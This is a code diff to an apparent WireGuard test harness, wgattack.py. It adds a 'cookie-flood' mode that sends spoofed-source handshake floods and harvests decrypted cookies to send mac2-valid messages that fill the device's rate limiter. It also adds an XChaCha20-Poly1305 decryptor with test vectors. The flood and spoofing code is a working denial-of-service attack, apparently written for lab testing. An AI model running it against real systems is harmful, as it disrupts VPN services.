@@ -39,6 +39,22 @@ heard, 0 otherwise, 2 on a usage or set-up error.
                        genuine ones with a changed counter or a flipped bit;
                        cookie replies with a live index and garbage
       replay-data      the captured data messages resent (twice each)
+  wgattack.py cookie-flood --ifname IF --src-mac MAC --dst-mac MAC --target ADDR
+              --port PORT --pub B64 --holders N --seconds S [--ready FILE]
+              [--stop FILE] [--summary FILE] [--min-cookies N]
+      the handshake path under attack (IPv4), from one process, until
+      --seconds pass or the file --stop appears: (1) a flood of initiations
+      with a valid mac1 from 1,024 spoofed sources in 10.200.0.0/16, which
+      keeps the device under load; (2) N "cookie holders" in 10.201.0.0/16
+      (the device must route that prefix back to IF: the holders never own
+      their addresses, a sniffer on IF reads their cookie replies): each
+      sends a handshake response with a valid mac1, reads the cookie the
+      device answers with, and from then on sends responses with a valid
+      mac2 too, which pass the MAC checks and reach the per-source rate
+      limiter (and hold an entry there) but then cost the device no
+      Diffie-Hellman (their receiver index is unknown). Writes --ready once
+      --min-cookies holders (default N) have their cookie and have each sent
+      a message with it; --summary gets the counters.
   wgattack.py control [common options] --static-priv FILE
       the positive control: a valid initiation from a static key that the
       device DOES know; exit 0 only if the device's response came back both
@@ -273,6 +289,34 @@ def initiation(responder_pub, static_priv, sender_index):
     return msg + b"\0" * 16
 
 
+def hchacha20(key, nonce16):
+    s = [0x61707865, 0x3320646E, 0x79622D32, 0x6B206574]
+    s += list(struct.unpack("<8I", key)) + list(struct.unpack("<4I", nonce16))
+    for _ in range(10):
+        _qr(s, 0, 4, 8, 12)
+        _qr(s, 1, 5, 9, 13)
+        _qr(s, 2, 6, 10, 14)
+        _qr(s, 3, 7, 11, 15)
+        _qr(s, 0, 5, 10, 15)
+        _qr(s, 1, 6, 11, 12)
+        _qr(s, 2, 7, 8, 13)
+        _qr(s, 3, 4, 9, 14)
+    return struct.pack("<8I", *(s[0:4] + s[12:16]))
+
+
+def xchacha_open(key, nonce24, sealed, ad):
+    """XChaCha20-Poly1305 decryption (draft-irtf-cfrg-xchacha); None if the
+    tag is wrong."""
+    sub = hchacha20(key, nonce24[:16])
+    nonce = b"\0" * 4 + nonce24[16:]
+    ct, tag = sealed[:-16], sealed[-16:]
+    otk = chacha20_block(sub, 0, nonce)[:32]
+    pad = lambda b: b"\0" * (-len(b) % 16)
+    if poly1305(otk, ad + pad(ad) + ct + pad(ct) + struct.pack("<QQ", len(ad), len(ct))) != tag:
+        return None
+    return chacha20_xor(sub, 1, nonce, ct)
+
+
 def selftest():
     # RFC 7748 section 5.2, first X25519 vector, and section 6.1 (Alice).
     k = bytes.fromhex("a546e36bf0527c9d3b16154b82465edd62144c0ac1fc5a18506a2244ba449ac4")
@@ -298,6 +342,21 @@ def selftest():
     assert hmac_blake2s(bytes(range(32)), b"").hex() == \
         "e2641d24dfa8dd89e8cb77f1cdc77d8c006e5bebdfc4d6a3a3a6f8d5b7586fb0"
     assert mac16(b"K" * 32, b"abc").hex() == "88ddaafea2baf1006d779995fd9b6b1d"
+    # draft-irtf-cfrg-xchacha-03 section 2.2.1 (HChaCha20) and A.3.1
+    # (XChaCha20-Poly1305, the tag and the first bytes).
+    hk = bytes(range(32))
+    hn = bytes.fromhex("000000090000004a0000000031415927")
+    assert hchacha20(hk, hn).hex() == "82413b4227b27bfed30e42508a877d73a0f9e4d58a74a853c12ec41326d3ecdc"
+    xk = bytes(range(0x80, 0xA0))
+    xn = bytes(range(0x40, 0x58))
+    xsealed = bytes.fromhex("bd6d179d3e83d43b9576579493c0e939572a1700252bfaccbed2902c21396cbb"
+                            "731c7f1b0b4aa6440bf3a82f4eda7e39ae64c6708c54c216cb96b72e1213b452"
+                            "2f8c9ba40db5d945b11b69b982c1bb9e3f3fac2bc369488f76b2383565d3fff9"
+                            "21f9664c97637da9768812f615c68b13b52e"
+                            "c0875924c1c7987947deafd8780acf49")
+    xpt = xchacha_open(xk, xn, xsealed, ad)
+    assert xpt == pt, xpt
+    assert xchacha_open(xk, xn, xsealed[:-1] + b"\0", ad) is None
     print("selftest: pass")
 
 
@@ -713,6 +772,128 @@ def control(args):
     return 0 if ok else 1
 
 
+LABEL_COOKIE = b"cookie--"
+
+
+def cookie_flood(args):
+    """See the module's documentation (cookie-flood)."""
+    pub = b64decode(args.pub)
+    mac1_key = blake2s(LABEL_MAC1, pub)
+    cookie_key = blake2s(LABEL_COOKIE, pub)
+    smac = bytes.fromhex(args.src_mac.replace(":", ""))
+    dmac = bytes.fromhex(args.dst_mac.replace(":", ""))
+    target, port = args.target, args.port
+    n = int(args.holders)
+    min_cookies = int(args.min_cookies) if args.min_cookies is not None else n
+    if n > 250 * 250 or min_cookies > n:
+        usage("--holders at most 62500, --min-cookies at most --holders")
+    # The flood: initiations with a valid mac1, from 1,024 spoofed sources.
+    flood = []
+    for i in range(1024):
+        body = struct.pack("<I", MSG_INIT) + os.urandom(LEN_INIT - 36)
+        msg = body + mac16(mac1_key, body) + b"\0" * 16
+        flood.append(udp_frame(smac, dmac, "10.200.%d.%d" % (i // 250, i % 250 + 1), 40000 + i, target, port,
+                               msg, ident=i))
+    # The holders: handshake responses (sender index 0x20000000 + i, a
+    # random receiver index the device never gave), with their mac1; the
+    # frame with the mac2 replaces the first once the cookie is known.
+    base = 0x20000000
+    msgs, frames, has_cookie, addrs = [], [], [False] * n, []
+    for i in range(n):
+        addr = "10.201.%d.%d" % (i // 250, i % 250 + 1)
+        body = struct.pack("<III", MSG_RESP, base + i, 0x7F000000 + i) + os.urandom(LEN_RESP - 44)
+        msg = body + mac16(mac1_key, body)
+        msgs.append(msg)
+        addrs.append(addr)
+        frames.append(udp_frame(smac, dmac, addr, 30000 + i % 20000, target, port, msg + b"\0" * 16, ident=i))
+    inject = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    inject.bind((args.ifname, 0))
+    sniff = packet_socket(args.ifname)
+    sniff.setblocking(False)
+    send = inject.send
+    st = {"flood_sent": 0, "holder_sent": 0, "holder_mac2_sent": 0, "cookie_replies": 0, "bad_cookie_replies": 0,
+          "cookies": 0, "rounds": 0, "sniffed": 0}
+    t0 = time.monotonic()
+    end = t0 + float(args.seconds)
+    ready = False
+    # Holders whose mac2 message has gone out since they got their cookie.
+    mac2_sent = [False] * n
+
+    def drain():
+        while True:
+            try:
+                frame = sniff.recv(2048)
+            except (BlockingIOError, InterruptedError):
+                return
+            # Only what the device sends the holders: IPv4, UDP from PORT,
+            # to 10.201.0.0/16 (byte offsets in the frame: fast under
+            # emulation, most frames are something else).
+            st["sniffed"] += 1
+            if len(frame) < 42 + LEN_COOKIE or frame[12:14] != b"\x08\x00" or frame[30:32] != b"\x0a\xc9":
+                continue
+            u = parse_udp(frame)
+            if not u or u[2] != port or len(u[5]) != LEN_COOKIE or u[5][0] != MSG_COOKIE:
+                continue
+            st["cookie_replies"] += 1
+            i = struct.unpack("<I", u[5][4:8])[0] - base
+            if not 0 <= i < n or has_cookie[i] or u[3] != addrs[i]:
+                continue
+            msg = msgs[i]
+            cookie = xchacha_open(cookie_key, u[5][8:32], u[5][32:64], msg[-16:])
+            if cookie is None:
+                st["bad_cookie_replies"] += 1
+                continue
+            has_cookie[i] = True
+            st["cookies"] += 1
+            full = msg + mac16(cookie, msg)
+            frames[i] = udp_frame(smac, dmac, addrs[i], 30000 + i % 20000, target, port, full, ident=i)
+
+    fi = 0
+    while time.monotonic() < end and not (args.stop and os.path.exists(args.stop)):
+        st["rounds"] += 1
+        for start in range(0, n, 64):
+            # 64 flood frames, then 64 holders, then what came back.
+            for fr in flood[fi:fi + 64]:
+                try:
+                    send(fr)
+                    st["flood_sent"] += 1
+                except OSError:
+                    pass
+            fi = (fi + 64) % len(flood)
+            for i in range(start, min(start + 64, n)):
+                try:
+                    send(frames[i])
+                except OSError:
+                    continue
+                if has_cookie[i]:
+                    st["holder_mac2_sent"] += 1
+                    mac2_sent[i] = True
+                else:
+                    st["holder_sent"] += 1
+            drain()
+        print("cookie-flood: round %d at %.1f s: %d cookies, %d cookie replies (%d bad), %d frames sniffed, "
+              "%d flood and %d holder messages sent" % (
+                  st["rounds"], time.monotonic() - t0, st["cookies"], st["cookie_replies"],
+                  st["bad_cookie_replies"], st["sniffed"], st["flood_sent"],
+                  st["holder_sent"] + st["holder_mac2_sent"]))
+        sys.stdout.flush()
+        if not ready and st["cookies"] >= min_cookies and sum(mac2_sent) >= min_cookies:
+            ready = True
+            st["ready_after"] = round(time.monotonic() - t0, 1)
+            print("cookie-flood: %d holders have their cookie and used it, after %.1f s" % (
+                st["cookies"], time.monotonic() - t0))
+            sys.stdout.flush()
+            if args.ready:
+                open(args.ready, "w").close()
+    st["seconds"] = round(time.monotonic() - t0, 1)
+    line = " ".join("%s=%s" % kv for kv in sorted(st.items()))
+    print("cookie-flood: " + line)
+    if args.summary:
+        with open(args.summary, "w") as f:
+            f.write(line + "\n")
+    return 0 if ready else 1
+
+
 class Args:
     """--name value options into attributes (dashes become underscores);
     the names in MULTI may repeat and collect into lists."""
@@ -768,6 +949,14 @@ def main(argv=None):
         args.port = int(args.port)
         capture(args)
         return 0
+    if cmd == "cookie-flood":
+        args = Args(rest, ("ifname", "src_mac", "dst_mac", "target", "port", "pub", "holders", "seconds", "ready",
+                           "stop", "summary", "min_cookies"))
+        for k in ("ifname", "src_mac", "dst_mac", "target", "port", "pub", "holders", "seconds"):
+            if getattr(args, k) is None:
+                usage("cookie-flood needs --%s" % k.replace("_", "-"))
+        args.port = int(args.port)
+        return cookie_flood(args)
     if cmd not in ("attack", "control"):
         usage("unknown command %s" % cmd)
     args = Args(rest, COMMON + (("class",) if cmd == "attack" else ("static_priv",)))
